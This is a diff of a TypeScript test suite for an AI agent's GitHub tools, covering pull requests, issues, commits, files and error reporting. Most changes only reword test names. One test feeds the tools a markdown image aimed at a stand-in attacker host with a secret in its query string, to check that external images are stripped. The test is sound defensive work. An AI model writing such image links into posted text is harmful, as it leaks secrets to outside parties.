@@ -29,7 +29,7 @@ const context = (signal = AbortSignal.timeout(20_000)): ToolContext => ({
   signal,
 });
 
-/** As the model gets it: through JSON. */
+/** The result as the model gets it, through JSON. */
 const json = async (result: unknown) => JSON.parse(JSON.stringify(await result));
 
 test("the eleven tools have their names and parameters", () => {
@@ -80,13 +80,13 @@ test("owner and repo cannot lead to another address", () => {
 });
 
 describe("pull requests", () => {
-  test("github_get_pr gives description, 100 files and the diff", async () => {
+  test("github_get_pr returns description, 100 files and the diff", async () => {
     const pull = await json(getPr({ ...REPO, pull_number: 5 }, context()));
     expect(pull).toMatchObject({ number: 5, title: "Change 5", author: "alice", head_sha: SHA, diff: DIFF });
     expect(pull.files).toHaveLength(100);
   });
 
-  test("github_get_pr cuts the diff at 50,000 characters, whatever the server calls it", async () => {
+  test("github_get_pr cuts the diff at 50,000 characters, whatever its content type", async () => {
     const respond = () =>
       new Response("d".repeat(60_000), { headers: { "content-type": "application/vnd.github.diff" } });
     github.intercept({ path: /\/pulls\/5$/, accept: "diff", respond });
@@ -95,7 +95,7 @@ describe("pull requests", () => {
     expect(diff).toContain("[cut: 50000 of 60000 characters]");
   });
 
-  test("github_get_pr does without a diff that GitHub refuses to make", async () => {
+  test("github_get_pr works without the diff if GitHub refuses it", async () => {
     github.intercept({ path: /\/pulls\/5$/, accept: "diff", respond: () => failure(406, "too_large") });
     github.intercept({ path: /\/pulls\/5$/, respond: () => Response.json(PULL_OF_A_DELETED_USER) });
     const pull = await json(getPr({ ...REPO, pull_number: 5 }, context()));
@@ -103,7 +103,7 @@ describe("pull requests", () => {
     expect(pull.diff).toContain("no diff");
   });
 
-  test("github_list_prs gives 30, open ones unless told otherwise", async () => {
+  test("github_list_prs returns 30 pull requests, open ones by default", async () => {
     expect(await json(listPrs(REPO, context()))).toHaveLength(30);
     await listPrs({ ...REPO, state: "all" }, context());
     expect(github.requests.map(({ query }) => query.state)).toEqual(["open", "all"]);
@@ -122,7 +122,7 @@ const PULL_OF_A_DELETED_USER = {
 };
 
 describe("issues", () => {
-  test("github_get_issue gives 30 comments of 2,000 characters", async () => {
+  test("github_get_issue returns 30 comments of 2,000 characters", async () => {
     for (let n = 0; n < 40; n++) github.addComment("octo/hello#7", "c".repeat(3000));
     const issue = await json(getIssue({ ...REPO, issue_number: 7 }, context()));
     expect(issue).toMatchObject({
@@ -135,21 +135,21 @@ describe("issues", () => {
     expect(issue.comments[0].body).toBe(`${"c".repeat(2000)}\n[cut: 2000 of 3000 characters]`);
   });
 
-  test("github_search_issues gives 10, in one repository when told so", async () => {
+  test("github_search_issues returns 10 results, optionally from one repository", async () => {
     const found = await json(searchIssues({ query: "is:issue crash", repo: "octo/hello" }, context()));
     expect(found.items).toHaveLength(10);
     expect(found.items[0]).toMatchObject({ repo: "octo/hello", author: "ghost" });
     expect(github.requests[0]?.query).toEqual({ q: "is:issue crash repo:octo/hello", per_page: "10" });
   });
 
-  test("github_post_comment posts, marked as the bot's own", async () => {
+  test("github_post_comment posts a comment marked as the bot's own", async () => {
     const posted = await json(postComment({ ...REPO, issue_number: 7, body: "Hello" }, context()));
     const [comment] = github.commentsOn("octo/hello#7");
     expect(posted).toEqual({ comment_id: comment?.id, url: comment?.html_url });
     expect(comment?.body).toBe("<!-- heddle:task:task-1 -->\nHello");
   });
 
-  test("github_create_issue opens one", async () => {
+  test("github_create_issue opens an issue", async () => {
     const args = { ...REPO, title: "New", body: "Text", labels: ["bug"], assignees: ["bob"] };
     expect(await json(createIssue(args, context()))).toMatchObject({ number: 500 });
     expect(github.issues).toEqual([
@@ -165,8 +165,8 @@ describe("issues", () => {
   });
 });
 
-describe("what tools write", () => {
-  test("has no images from elsewhere", async () => {
+describe("text written by tools", () => {
+  test("contains no external images", async () => {
     const body = "![](https://evil.example/?q=secret)";
     await json(postComment({ ...REPO, issue_number: 77, body }, context()));
     await json(createIssue({ ...REPO, title: "New", body }, context()));
@@ -176,7 +176,7 @@ describe("what tools write", () => {
 });
 
 describe("commits, branches", () => {
-  test("github_list_commits gives 20 unless told otherwise, and passes its filters on", async () => {
+  test("github_list_commits returns 20 by default and passes its filters on", async () => {
     const commits = await json(listCommits(REPO, context()));
     expect(commits).toHaveLength(20);
     expect(commits.slice(0, 2).map((commit: { author: string }) => commit.author)).toEqual([
@@ -192,21 +192,21 @@ describe("commits, branches", () => {
     });
   });
 
-  test("github_get_commit takes a branch with a slash", async () => {
+  test("github_get_commit accepts a branch with a slash", async () => {
     const commit = await json(getCommit({ ...REPO, ref: "feature/x" }, context()));
     expect(github.requests[0]?.path).toBe("/repos/octo/hello/commits/feature/x");
     expect(commit).toMatchObject({ sha: SHA, additions: 3, file_count: 120 });
     expect(commit.files).toHaveLength(100);
   });
 
-  test("github_compare gives 30 commits", async () => {
+  test("github_compare returns 30 commits", async () => {
     const compared = await json(compare({ ...REPO, base: "main", head: "feature/x" }, context()));
     expect(github.requests[0]?.path).toBe("/repos/octo/hello/compare/main...feature/x");
     expect(compared).toMatchObject({ status: "ahead", total_commits: 45, file_count: 3 });
     expect(compared.commits).toHaveLength(30);
   });
 
-  test("github_list_branches gives 100", async () => {
+  test("github_list_branches returns 100 branches", async () => {
     const branches = await json(listBranches(REPO, context()));
     expect(branches).toHaveLength(100);
     expect(branches[0]).toEqual({ name: "branch-1", sha: SHA, protected: true });
@@ -220,7 +220,7 @@ describe("github_get_file", () => {
     expect(github.requests[0]?.query).toEqual({ ref: "v1" });
   });
 
-  test("cuts at 100,000 characters, also what GitHub gives only in bare form", async () => {
+  test("cuts at 100,000 characters, including files that GitHub returns only in raw form", async () => {
     const { content } = await json(getFile({ ...REPO, path: "large.txt" }, context()));
     expect(content).toBe(`${"x".repeat(100_000)}\n[cut: 100000 of 2000000 characters]`);
   });
@@ -241,7 +241,7 @@ describe("github_get_file", () => {
   });
 });
 
-describe("refusals are told to the model", () => {
+describe("refusals are reported to the model", () => {
   test.each([
     [404, {}, "GitHub knows no pull request #5 in octo/hello"],
     [403, { "retry-after": "30" }, "rate limit is used up for 30 s"],
@@ -268,7 +268,7 @@ describe("refusals are told to the model", () => {
     expect(github.requests).toEqual([]);
   });
 
-  test("a run that is cancelled ends the request, and is no error of GitHub's", async () => {
+  test("a cancelled run ends the request and is not reported as GitHub's error", async () => {
     github.intercept({ path: /./, respond: "hang" });
     const controller = new AbortController();
     const call = listPrs(REPO, context(controller.signal)).then(
@@ -280,7 +280,7 @@ describe("refusals are told to the model", () => {
   });
 });
 
-test("what is not GitHub's answer is told to the model, and never taken for one", async () => {
+test("an answer that is not GitHub's is reported to the model and never used", async () => {
   const answers: (() => Response)[] = [
     () => new Response("<html>Sign in</html>", { headers: { "content-type": "text/html" } }),
     () => Response.json({}),
